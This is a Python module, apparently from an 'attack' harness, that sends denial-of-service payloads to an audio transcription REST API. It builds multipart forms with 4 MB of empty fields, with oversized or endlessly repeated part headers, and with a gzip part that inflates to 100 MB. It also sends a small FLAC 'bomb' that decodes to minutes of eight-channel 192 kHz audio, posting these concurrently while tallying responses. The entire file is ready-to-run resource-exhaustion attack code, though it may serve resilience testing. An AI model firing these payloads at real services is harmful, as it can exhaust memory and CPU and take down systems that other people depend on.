"""Requests over REST that cost much more than they weigh."""

from __future__ import annotations

import asyncio
import io
from functools import lru_cache

import aiohttp
import numpy as np
import soundfile

from attack.target import HANG_S, Sent, Target

FORM_BYTES = 4 << 20
BOMB_S, BOMB_HZ, BOMB_CHANNELS = 120, 192_000, 8
BOMBS = 4
LOOK_UPS = 20


async def tiny_fields(target: Target) -> Sent:
    """A form of 4 MB whose fields are empty."""
    part = b'--b\r\nContent-Disposition: form-data; name=""\r\n\r\n\r\n'
    body, sent = part * (FORM_BYTES // len(part)) + b"--b--\r\n", Sent()
    await _post_form(target, sent, body)
    return sent


async def long_part_headers(target: Target) -> Sent:
    """Forms with one endless header, with many, and with a compressed part that unpacks to 100 MB."""
    sent = Sent()
    for head in (b"X: " + b"a" * FORM_BYTES + b"\r\n", b"X-A: b\r\n" * (FORM_BYTES // 8)):
        await _post_form(target, sent, b"--b\r\n" + head + b"\r\nx\r\n--b--\r\n")
    packed = await asyncio.to_thread(_packed)
    disposition = b'Content-Disposition: form-data; name="file"\r\nContent-Encoding: gzip\r\n\r\n'
    await _post_form(target, sent, b"--b\r\n" + disposition + packed + b"\r\n--b--\r\n")
    return sent


async def recordings(target: Target) -> Sent:
    """Small recordings that decode to minutes of eight channels at 192 kHz; credentials are looked up meanwhile."""
    bomb, sent = await asyncio.to_thread(flac_bomb), Sent()
    async with _http() as http, asyncio.TaskGroup() as group:
        for _ in range(BOMBS):
            group.create_task(_transcribe(http, target, sent, bomb))
        for _ in range(LOOK_UPS):
            async with http.get(f"{target.url}/v1/models", headers=target.headers(target.key)) as answer:
                sent.seen[f"a look-up {answer.status}"] += 1
    return sent


@lru_cache(maxsize=1)
def flac_bomb() -> bytes:
    """Silence, which FLAC writes in next to nothing."""
    file = io.BytesIO()
    with soundfile.SoundFile(file, "w", BOMB_HZ, BOMB_CHANNELS, format="FLAC") as recording:
        second = np.zeros((BOMB_HZ, BOMB_CHANNELS), dtype=np.int16)
        for _ in range(BOMB_S):
            recording.write(second)
    return file.getvalue()


def _packed() -> bytes:
    import gzip

    return gzip.compress(bytes(100 << 20), 1)


def _http() -> aiohttp.ClientSession:
    return aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=HANG_S))


async def _transcribe(http: aiohttp.ClientSession, target: Target, sent: Sent, recording: bytes) -> None:
    form = aiohttp.FormData({"model": "default"})
    form.add_field("file", recording, filename="a.flac")
    url = f"{target.url}/v1/audio/transcriptions"
    async with http.post(url, data=form, headers=target.headers()) as answer:
        sent.seen[f"a recording {answer.status}"] += 1
    sent.events += 1
    sent.n_bytes += len(recording)


async def _post_form(target: Target, sent: Sent, body: bytes) -> None:
    headers = {**target.headers(), "Content-Type": "multipart/form-data; boundary=b"}
    sent.events += 1
    sent.n_bytes += len(body)
    try:
        async with (
            _http() as http,
            http.post(f"{target.url}/v1/audio/transcriptions", data=io.BytesIO(body), headers=headers) as answer,
        ):
            sent.seen[f"a form {answer.status}"] += 1
    except aiohttp.ClientError as why:  # the server has answered and hung up before all was sent
        sent.seen[f"a form {type(why).__name__}"] += 1
